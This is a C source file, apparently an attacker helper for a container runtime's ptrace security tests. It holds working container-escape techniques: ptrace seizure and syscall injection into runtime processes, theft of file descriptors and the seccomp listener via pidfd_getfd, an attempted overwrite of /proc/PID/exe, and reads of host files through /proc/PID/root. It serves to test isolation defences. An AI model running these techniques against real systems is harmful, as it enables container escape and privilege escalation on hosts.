/* The attacker inside a container for security-ptrace.bats (built there with cc -static).
 *
 *   ptrace-probe watch HOST_FILE STOP_FILE OUT
 *     Until STOP_FILE exists (at most 900 s, far past what a whole test takes; the test's
 *     teardown ends it sooner: 120 s was close to the 77 s exec_attack took under ASan at load
 *     12-17), watches the pids the namespace allocates; each new process is tried as soon as it
 *     is in /proc (the newest pids are looked for again until they are): HOST_FILE through
 *     /proc/PID/root (it exists only on the host), PTRACE_SEIZE, and /proc/PID/exe. Lines to
 *     OUT: "root-escape PID", "seized PID EXE", "exe PID EXE", "tried PID" once PID was tried,
 *     and "watched N" (how many new processes it saw) at the end.
 *   ptrace-probe overwrite PID OUT
 *     Opens /proc/PID/exe, then (in a child that outlives the caller) tries, for at most 60 s,
 *     to reopen it for writing and write to it. OUT gets "overwritten", or "refused ERRNO-TEXT",
 *     or "timeout".
 *   ptrace-probe reach PID HOST_FILE OUT
 *     Tries once what a process of the same uid could take from PID: HOST_FILE through
 *     /proc/PID/root, /proc/PID/cwd, each /proc/PID/fd/N (readlink), /proc/PID/environ, each fd
 *     through pidfd_getfd, PTRACE_SEIZE (then detach). Lines to OUT: "root-escape", "cwd PATH",
 *     "fd N TARGET", "environ", "fd-taken N", "seized", and "refused WHAT ERRNO-TEXT" for each kind
 *     that gave nothing.
 *   ptrace-probe listener PID OUT
 *     Tries to take PID's seccomp listener fd: PTRACE_SEIZE (then detach), and pidfd_getfd of each
 *     of its fds below 1024, looking for "anon_inode:seccomp notify". Lines to OUT: "seized",
 *     "listener-taken FD", or only "refused ERRNO-TEXT" (of the seize) when neither worked.
 *   ptrace-probe handle FILE
 *     (on the host) prints FILE's handle for open_by_handle_at as "TYPE HEX".
 *   ptrace-probe capwatch TYPE HEX STOP_FILE OUT
 *     The capability window (docs/process-model.md). First tries open_by_handle_at of the handle
 *     itself ("self ERRNO-TEXT": the container's own capabilities must not reach the host file).
 *     Then, until STOP_FILE exists (at most 900 s), seizes every new process of its pid
 *     namespace as soon as it exists and, while it is stopped, compares its CapEff, CapPrm and
 *     CapBnd with its own, which are the container's, and its NoNewPrivs and Seccomp mode: "beyond
 *     PID FIELD HEX" for a set holding a capability the container lacks, or no no_new_privs or
 *     seccomp filter where the container has one. On x86_64 it then makes the process run
 *     open_by_handle_at of the handle (relative to its cwd, on the host file's filesystem) in
 *     place of its next system call, and runs that call afterwards: "injected PID RESULT EXE" (an
 *     fd or -errno, and what it runs: the runtime's image before its execve), and "escape PID
 *     TEXT" when the fd read the host file (through /proc/PID/fd/N). At the end "capwatched
 *     SEIZED INJECTED".
 *   ptrace-probe inject-mkdir PID PATH OUT
 *     (x86_64) Seizes PID (a runtime process the test holds still), and makes it run mkdir(PATH)
 *     in place of its next system call, which it then runs. OUT: "mkdir PID RESULT SECCOMP" (0
 *     or -errno, and the Seccomp mode of its status while seized), or "refused ERRNO-TEXT".
 *   ptrace-probe wait-injected OUT
 *     Exits 0 once OUT has an "injected" line for its own pid (1 after 120 s): a process the
 *     capwatch surely seizes, so that a test knows that the watcher works.
 *   ptrace-probe wait-tried OUT
 *     The same for watch's "tried" line: a process the watcher surely tries, however late the
 *     scheduler lets it run (the 20 short execs can all end while it waits for a core).
 *   ptrace-probe steal-fifo PID OUT
 *     Until it is killed (at most 900 s), takes each fd 3-63 of PID through pidfd_getfd, round
 *     after round: a FIFO (the exec fifo's write end, which `start` reads to EOF) is kept for good
 *     and "taken FD" goes to OUT; after each round OUT.rounds is replaced (a rename) with the
 *     number of rounds done.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *out;

static long last_pid(void) {
  char buf[32] = "";
  int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
  long n = 0;
  if (fd >= 0) {
    if (read(fd, buf, sizeof(buf) - 1) > 0)
      n = strtol(buf, NULL, 10);
    close(fd);
  }
  return n;
}

static void sleep_ms(long ms) {
  struct timespec t = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000L};
  nanosleep(&t, NULL);
}

/* Returns 1 when pid existed and was tried. */
static int attack(long pid, const char *host_file) {
  char path[4096], exe[4096];
  ssize_t n;
  int fd;
  snprintf(path, sizeof(path), "/proc/%ld/root%s", pid, host_file);
  fd = open(path, O_RDONLY);
  if (fd >= 0) {
    fprintf(out, "root-escape %ld\n", pid);
    close(fd);
  }
  snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
  n = readlink(path, exe, sizeof(exe) - 1);
  exe[n > 0 ? n : 0] = '\0';
  if (ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) == 0) {
    int status;
    /* stopped while we look, then let go (a seized process that execs would stop for us) */
    if (ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) == 0)
      (void)waitpid((pid_t)pid, &status, __WALL);
    fprintf(out, "seized %ld %s\n", pid, exe);
    snprintf(path, sizeof(path), "/proc/%ld/root%s", pid, host_file);
    fd = open(path, O_RDONLY);
    if (fd >= 0) {
      fprintf(out, "root-escape %ld\n", pid);
      close(fd);
    }
    ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
  }
  if (n > 0)
    fprintf(out, "exe %ld %s\n", pid, exe);
  fflush(out);
  return n > 0 || fd >= 0;
}

#define WATCH_PIDS 65536
/* How many of the newest pids are looked for again each round: ns_last_pid names a pid as soon as
 * it is allocated, and its process is in /proc only once attached a little later (under load,
 * after a preemption). Skipping such a pid as "gone already" lost the one exec a test held until
 * the watcher had tried it. */
#define WATCH_RECHECK 16

static int watch(const char *host_file, const char *stop_file) {
  static unsigned char done[WATCH_PIDS];
  time_t deadline = time(NULL) + 900;
  long low = getpid() + 1, watched = 0;
  while (access(stop_file, F_OK) != 0 && time(NULL) < deadline) {
    long next = last_pid() + 1;
    char proc[64];
    /* each new pid is tried as soon as it exists; one not in /proc below the newest is gone */
    for (long pid = low; pid <= next && pid < WATCH_PIDS; pid++) {
      if (done[pid])
        continue;
      snprintf(proc, sizeof(proc), "/proc/%ld", pid);
      if (access(proc, F_OK) != 0) {
        done[pid] = pid < next - WATCH_RECHECK;
        continue;
      }
      attack(pid, host_file);
      fprintf(out, "tried %ld\n", pid);
      fflush(out);
      watched++;
      done[pid] = 1;
    }
    while (low < WATCH_PIDS && done[low])
      low++;
  }
  fprintf(out, "watched %ld\n", watched);
  return 0;
}

static int overwrite(long pid) {
  char path[64];
  int exe, i;
  snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
  exe = open(path, O_RDONLY);
  if (exe < 0) {
    fprintf(out, "refused open: %s\n", strerror(errno));
    return 0;
  }
  if (fork() != 0)
    _exit(0); /* the caller (fsrun exec) returns; the child keeps the handle */
  setsid();
  snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
  for (i = 0; i < 1200; i++) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 && errno == ETXTBSY) {
      sleep_ms(50);
      continue;
    }
    if (fd < 0) {
      fprintf(out, "refused %s\n", strerror(errno));
      return 0;
    }
    if (write(fd, "pwned", 5) == 5)
      fprintf(out, "overwritten\n");
    else
      fprintf(out, "refused %s\n", strerror(errno));
    return 0;
  }
  fprintf(out, "timeout\n");
  return 0;
}

/* Returns the fd number in pid of a seccomp listener we could take, or -1. */
static int take_listener(long pid) {
  int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0);
  char path[64], target[64];
  for (int n = 0; pidfd >= 0 && n < 1024; n++) {
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
    ssize_t len;
    if (fd < 0)
      continue;
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    len = readlink(path, target, sizeof(target) - 1);
    close(fd);
    target[len > 0 ? len : 0] = '\0';
    if (strcmp(target, "anon_inode:seccomp notify") == 0)
      return n;
  }
  return -1;
}

static int listener(long pid) {
  int seized = ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) == 0, saved = errno, fd;
  if (seized) {
    int status;
    fprintf(out, "seized\n");
    /* stopped, then let go: DETACH wants a stopped tracee */
    if (ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) == 0)
      (void)waitpid((pid_t)pid, &status, __WALL);
    ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
  }
  fd = take_listener(pid);
  if (fd >= 0)
    fprintf(out, "listener-taken %d\n", fd);
  if (!seized && fd < 0)
    fprintf(out, "refused %s\n", strerror(saved));
  return 0;
}

static void refused(const char *what, int e) {
  fprintf(out, "refused %s %s\n", what, strerror(e));
}

/* readlink of /proc/PID/fd/N for every N the directory lists (listing it may be allowed where
 * following its links is not) */
static void reach_fds(long pid) {
  char path[64], target[4096];
  int e = ENOENT, found = 0;
  for (int n = 0; n < 1024; n++) {
    ssize_t len;
    snprintf(path, sizeof(path), "/proc/%ld/fd/%d", pid, n);
    len = readlink(path, target, sizeof(target) - 1);
    if (len < 0) {
      if (errno != ENOENT)
        e = errno;
      continue;
    }
    target[len] = '\0';
    fprintf(out, "fd %d %s\n", n, target);
    found = 1;
  }
  if (!found)
    refused("fd", e);
}

static void reach_by_pidfd(long pid) {
  int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0), e = errno, taken = 0;
  for (int n = 0; pidfd >= 0 && n < 1024; n++) {
    int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
    if (fd < 0) {
      if (errno != EBADF)
        e = errno;
      continue;
    }
    close(fd);
    fprintf(out, "fd-taken %d\n", n);
    taken = 1;
  }
  if (!taken)
    refused("getfd", e);
}

static int reach(long pid, const char *host_file) {
  char path[4096], cwd[4096], buf[16];
  ssize_t n;
  int fd, status;
  snprintf(path, sizeof(path), "/proc/%ld/root%s", pid, host_file);
  fd = open(path, O_RDONLY);
  if (fd >= 0) {
    fprintf(out, "root-escape\n");
    close(fd);
  } else {
    refused("root", errno);
  }
  snprintf(path, sizeof(path), "/proc/%ld/cwd", pid);
  n = readlink(path, cwd, sizeof(cwd) - 1);
  if (n >= 0) {
    cwd[n] = '\0';
    fprintf(out, "cwd %s\n", cwd);
  } else {
    refused("cwd", errno);
  }
  reach_fds(pid);
  snprintf(path, sizeof(path), "/proc/%ld/environ", pid);
  fd = open(path, O_RDONLY);
  if (fd >= 0 && read(fd, buf, sizeof(buf)) > 0)
    fprintf(out, "environ\n");
  else
    refused("environ", errno);
  if (fd >= 0)
    close(fd);
  reach_by_pidfd(pid);
  if (ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, NULL) == 0) {
    fprintf(out, "seized\n");
    if (ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) == 0)
      (void)waitpid((pid_t)pid, &status, __WALL);
    ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
  } else {
    refused("seize", errno);
  }
  return 0;
}

/* --- capwatch --------------------------------------------------------------------------------- */

#define HANDLE_MAX 128

static struct {
  struct file_handle fh;
  unsigned char bytes[HANDLE_MAX];
} handle;

static int print_handle(const char *file) {
  int mount_id;
  handle.fh.handle_bytes = HANDLE_MAX;
  if (name_to_handle_at(AT_FDCWD, file, &handle.fh, &mount_id, 0) < 0) {
    perror("name_to_handle_at");
    return 1;
  }
  printf("%d ", handle.fh.handle_type);
  for (unsigned i = 0; i < handle.fh.handle_bytes; i++)
    printf("%02x", handle.bytes[i]);
  printf("\n");
  return 0;
}

static int parse_handle(const char *type, const char *hex) {
  size_t n = strlen(hex) / 2;
  if (n == 0 || n > HANDLE_MAX)
    return -1;
  handle.fh.handle_type = (int)strtol(type, NULL, 10);
  handle.fh.handle_bytes = (unsigned)n;
  for (size_t i = 0; i < n; i++) {
    char byte[3] = {hex[2 * i], hex[2 * i + 1], 0};
    handle.bytes[i] = (unsigned char)strtoul(byte, NULL, 16);
  }
  return 0;
}

/* What a process holds that the container's own may not exceed: three capability sets (masks),
 * and no_new_privs and the seccomp mode (a process with less has more: numbers) */
#define N_HELD 5
static const char *held_names[N_HELD] = {"CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp"};

/* of pid ("self" for 0), from its status */
static int read_held(long pid, uint64_t held[N_HELD]) {
  char path[64], line[256];
  int found = 0;
  FILE *f;
  if (pid == 0)
    snprintf(path, sizeof(path), "/proc/self/status");
  else
    snprintf(path, sizeof(path), "/proc/%ld/status", pid);
  f = fopen(path, "r");
  if (f == NULL)
    return -1;
  while (fgets(line, sizeof(line), f) != NULL)
    for (int i = 0; i < N_HELD; i++) {
      size_t n = strlen(held_names[i]);
      if (strncmp(line, held_names[i], n) == 0 && line[n] == ':') {
        held[i] = strtoull(line + n + 1, NULL, i < 3 ? 16 : 10);
        found++;
      }
    }
  fclose(f);
  return found == N_HELD ? 0 : -1;
}

static uint64_t own_held[N_HELD];

static void report_beyond(long pid) {
  uint64_t held[N_HELD];
  if (read_held(pid, held) < 0)
    return;
  for (int i = 0; i < N_HELD; i++)
    if (i < 3 ? (held[i] & ~own_held[i]) != 0 : held[i] < own_held[i])
      fprintf(out, "beyond %ld %s %llx\n", pid, held_names[i], (unsigned long long)held[i]);
}

#ifdef __x86_64__
/* Resumes pid to its next syscall-entry stop, passing on signals it stops for. 0 when there. */
static int to_syscall_entry(long pid, int deliver) {
  for (int i = 0; i < 64; i++) {
    struct __ptrace_syscall_info info;
    int status;
    if (ptrace(PTRACE_SYSCALL, (pid_t)pid, NULL, (void *)(long)deliver) < 0 ||
        waitpid((pid_t)pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
      return -1;
    deliver = 0;
    if (WSTOPSIG(status) != (SIGTRAP | 0x80)) {
      if ((status >> 16) == 0) /* a signal-delivery stop: the signal goes on */
        deliver = WSTOPSIG(status);
      continue;
    }
    if (ptrace(PTRACE_GET_SYSCALL_INFO, (pid_t)pid, (void *)sizeof(info), &info) > 0 &&
        info.op == PTRACE_SYSCALL_INFO_ENTRY)
      return 0;
  }
  return -1;
}

/* At a syscall-entry stop: runs syscall nr(a, b, c) in place of the one pid was entering, and
 * stops at its exit. Returns its result, or LONG_MIN when pid went away. */
static long run_instead(long pid, long nr, long a, long b, long c) {
  struct user_regs_struct r;
  int status;
  if (ptrace(PTRACE_GETREGS, (pid_t)pid, NULL, &r) < 0)
    return LONG_MIN;
  r.orig_rax = (unsigned long long)nr;
  r.rdi = (unsigned long long)a;
  r.rsi = (unsigned long long)b;
  r.rdx = (unsigned long long)c;
  if (ptrace(PTRACE_SETREGS, (pid_t)pid, NULL, &r) < 0 ||
      ptrace(PTRACE_SYSCALL, (pid_t)pid, NULL, NULL) < 0 ||
      waitpid((pid_t)pid, &status, __WALL) < 0 || !WIFSTOPPED(status) ||
      ptrace(PTRACE_GETREGS, (pid_t)pid, NULL, &r) < 0)
    return LONG_MIN;
  return (long)r.rax;
}

/* back at the syscall instruction, the system call it was entering is made again */
static void replay(long pid, const struct user_regs_struct *entry) {
  struct user_regs_struct r = *entry;
  r.rip -= 2; /* syscall (0f 05) */
  r.rax = entry->orig_rax;
  ptrace(PTRACE_SETREGS, (pid_t)pid, NULL, &r);
}

/* reads the host file through pid's fd, if pid opened it */
static void report_escape(long pid, long fd) {
  char path[64], text[64] = "";
  ssize_t n;
  int mine;
  snprintf(path, sizeof(path), "/proc/%ld/fd/%ld", pid, fd);
  mine = open(path, O_RDONLY);
  n = mine >= 0 ? read(mine, text, sizeof(text) - 1) : -1;
  if (mine >= 0)
    close(mine);
  text[n > 0 ? n : 0] = '\0';
  text[strcspn(text, "\n")] = '\0';
  fprintf(out, "escape %ld %s\n", pid, text);
}

/* pid stopped: open_by_handle_at through it. 1 when it ran. */
static int inject_open(long pid, int deliver) {
  struct user_regs_struct entry;
  unsigned long addr;
  long fd;
  size_t size = sizeof(handle.fh) + handle.fh.handle_bytes;
  if (to_syscall_entry(pid, deliver) < 0 || ptrace(PTRACE_GETREGS, (pid_t)pid, NULL, &entry) < 0)
    return 0;
  /* below the red zone of its stack */
  addr = (entry.rsp - 1024 - size) & ~15UL;
  for (size_t off = 0; off < size; off += sizeof(long)) {
    long word = 0;
    memcpy(&word, (char *)&handle + off, size - off < sizeof(long) ? size - off : sizeof(long));
    if (ptrace(PTRACE_POKEDATA, (pid_t)pid, (void *)(addr + off), (void *)word) < 0)
      return 0;
  }
  fd = run_instead(pid, SYS_open_by_handle_at, AT_FDCWD, (long)addr, O_RDONLY);
  if (fd == LONG_MIN)
    return 0;
  {
    char path[64], exe[4096];
    ssize_t n;
    snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
    n = readlink(path, exe, sizeof(exe) - 1);
    exe[n > 0 ? n : 0] = '\0';
    fprintf(out, "injected %ld %ld %s\n", pid, fd, exe);
  }
  if (fd >= 0) {
    struct user_regs_struct r = entry;
    report_escape(pid, fd);
    r.rip -= 2;
    r.rax = SYS_close;
    ptrace(PTRACE_SETREGS, (pid_t)pid, NULL, &r);
    if (to_syscall_entry(pid, 0) < 0 || run_instead(pid, SYS_close, fd, 0, 0) == LONG_MIN)
      return 1;
  }
  replay(pid, &entry);
  return 1;
}

/* inject-mkdir: the path on pid's stack, below the red zone, then mkdir in place of its next
 * system call */
static int inject_mkdir(long pid, const char *path) {
  struct user_regs_struct entry;
  uint64_t held[N_HELD] = {0};
  unsigned long addr;
  size_t size = strlen(path) + 1;
  long r;
  int status;
  if (ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, (void *)PTRACE_O_TRACESYSGOOD) < 0 ||
      ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) < 0 ||
      waitpid((pid_t)pid, &status, __WALL) < 0 || !WIFSTOPPED(status)) {
    fprintf(out, "refused %s\n", strerror(errno));
    return 1;
  }
  (void)read_held(pid, held);
  if (to_syscall_entry(pid, 0) < 0 || ptrace(PTRACE_GETREGS, (pid_t)pid, NULL, &entry) < 0)
    return 1;
  addr = (entry.rsp - 1024 - size) & ~15UL;
  for (size_t off = 0; off < size; off += sizeof(long)) {
    long word = 0;
    memcpy(&word, path + off, size - off < sizeof(long) ? size - off : sizeof(long));
    if (ptrace(PTRACE_POKEDATA, (pid_t)pid, (void *)(addr + off), (void *)word) < 0)
      return 1;
  }
  r = run_instead(pid, SYS_mkdir, (long)addr, 0755, 0);
  if (r == LONG_MIN)
    return 1;
  fprintf(out, "mkdir %ld %ld %llu\n", pid, r, (unsigned long long)held[4]);
  replay(pid, &entry);
  ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
  return 0;
}
#else
static int inject_mkdir(long pid, const char *path) {
  (void)pid;
  (void)path;
  fprintf(out, "refused not x86_64\n");
  return 1;
}

static int inject_open(long pid, int deliver) {
  (void)pid;
  (void)deliver;
  return 0;
}
#endif

/* Seizes pid (stopped while looked at), then lets it go. -1: no such process (yet); 0: refused
 * or gone; 1: seized; 2: seized and injected. */
static int capwatch_one(long pid) {
  int status, deliver = 0, injected;
  if (ptrace(PTRACE_SEIZE, (pid_t)pid, NULL, (void *)PTRACE_O_TRACESYSGOOD) < 0)
    return errno == ESRCH ? -1 : 0;
  if (ptrace(PTRACE_INTERRUPT, (pid_t)pid, NULL, NULL) < 0 ||
      waitpid((pid_t)pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
    return 1;
  if ((status >> 16) == 0)
    deliver = WSTOPSIG(status);
  report_beyond(pid);
  injected = inject_open(pid, deliver);
  ptrace(PTRACE_DETACH, (pid_t)pid, NULL, NULL);
  fflush(out);
  return 1 + injected;
}

#define CAPWATCH_PIDS 65536

static int capwatch(const char *stop_file) {
  static unsigned char done[CAPWATCH_PIDS];
  time_t deadline = time(NULL) + 900;
  long seized = 0, injected = 0;
  int fd = (int)syscall(SYS_open_by_handle_at, AT_FDCWD, &handle.fh, O_RDONLY);
  fprintf(out, "self %s\n", fd >= 0 ? "opened" : strerror(errno));
  if (read_held(0, own_held) < 0)
    return 1;
  done[getpid()] = 1;
  while (access(stop_file, F_OK) != 0 && time(NULL) < deadline) {
    long next = last_pid() + 1;
    /* the newest pids again: one allocated may not be in /proc yet when first tried */
    for (long pid = next > 16 ? next - 16 : 1; pid <= next && pid < CAPWATCH_PIDS; pid++) {
      int r = done[pid] ? -1 : capwatch_one(pid);
      if (r >= 0)
        done[pid] = 1;
      seized += r >= 1;
      injected += r == 2;
    }
  }
  fprintf(out, "capwatched %ld %ld\n", seized, injected);
  return 0;
}

/* Exits 0 once the file at path has the line "WORD OWN-PID" or "WORD OWN-PID ..." */
static int wait_own_line(const char *path, const char *word) {
  char want[64], line[256];
  snprintf(want, sizeof(want), "%s %ld", word, (long)getpid());
  for (int i = 0; i < 1200; i++) {
    FILE *f = fopen(path, "r");
    while (f != NULL && fgets(line, sizeof(line), f) != NULL)
      if (strncmp(line, want, strlen(want)) == 0 && strchr(" \n", line[strlen(want)]) != NULL) {
        fclose(f);
        return 0;
      }
    if (f != NULL)
      fclose(f);
    sleep_ms(100);
  }
  return 1;
}

/* steal-fifo: a FIFO of pid's kept for good (written to out once), rounds counted in rounds */
static int steal_fifo(long pid, const char *rounds) {
  char tmp[PATH_MAX];
  int kept = -1;
  snprintf(tmp, sizeof(tmp), "%s.tmp", rounds);
  for (long round = 1; round < 900L * 1000; round++) {
    int pidfd = (int)syscall(SYS_pidfd_open, (pid_t)pid, 0);
    for (int n = 3; pidfd >= 0 && kept < 0 && n < 64; n++) {
      struct stat st;
      int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
      if (fd >= 0 && fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode)) {
        kept = fd;
        fprintf(out, "taken %d\n", n);
        fflush(out);
      } else if (fd >= 0) {
        close(fd);
      }
    }
    if (pidfd >= 0)
      close(pidfd);
    FILE *f = fopen(tmp, "w");
    if (f != NULL) {
      fprintf(f, "%ld\n", round);
      if (fclose(f) == 0)
        rename(tmp, rounds); /* whole, never seen half-written */
    }
    sleep_ms(1);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 5 && strcmp(argv[1], "watch") == 0) {
    out = fopen(argv[4], "w");
    return out == NULL ? 1 : watch(argv[2], argv[3]);
  }
  if (argc == 4 && strcmp(argv[1], "overwrite") == 0) {
    out = fopen(argv[3], "w");
    return out == NULL ? 1 : overwrite(strtol(argv[2], NULL, 10));
  }
  if (argc == 5 && strcmp(argv[1], "reach") == 0) {
    out = fopen(argv[4], "w");
    return out == NULL ? 1 : reach(strtol(argv[2], NULL, 10), argv[3]);
  }
  if (argc == 4 && strcmp(argv[1], "listener") == 0) {
    out = fopen(argv[3], "w");
    return out == NULL ? 1 : listener(strtol(argv[2], NULL, 10));
  }
  if (argc == 3 && strcmp(argv[1], "handle") == 0)
    return print_handle(argv[2]);
  if (argc == 6 && strcmp(argv[1], "capwatch") == 0) {
    out = fopen(argv[5], "w");
    return out == NULL || parse_handle(argv[2], argv[3]) < 0 ? 1 : capwatch(argv[4]);
  }
  if (argc == 3 && strcmp(argv[1], "wait-injected") == 0)
    return wait_own_line(argv[2], "injected");
  if (argc == 3 && strcmp(argv[1], "wait-tried") == 0)
    return wait_own_line(argv[2], "tried");
  if (argc == 5 && strcmp(argv[1], "inject-mkdir") == 0) {
    out = fopen(argv[4], "w");
    return out == NULL ? 1 : inject_mkdir(strtol(argv[2], NULL, 10), argv[3]);
  }
  if (argc == 4 && strcmp(argv[1], "steal-fifo") == 0) {
    char rounds[PATH_MAX];
    out = fopen(argv[3], "w");
    snprintf(rounds, sizeof(rounds), "%s.rounds", argv[3]);
    return out == NULL ? 1 : steal_fifo(strtol(argv[2], NULL, 10), rounds);
  }
  fprintf(stderr,
          "usage: ptrace-probe watch HOST_FILE STOP_FILE OUT | overwrite PID OUT | listener "
          "PID OUT | reach PID HOST_FILE OUT | handle FILE | capwatch TYPE HEX STOP_FILE OUT | "
          "wait-injected OUT | wait-tried OUT | inject-mkdir PID PATH OUT | steal-fifo PID OUT\n");
  return 2;
}
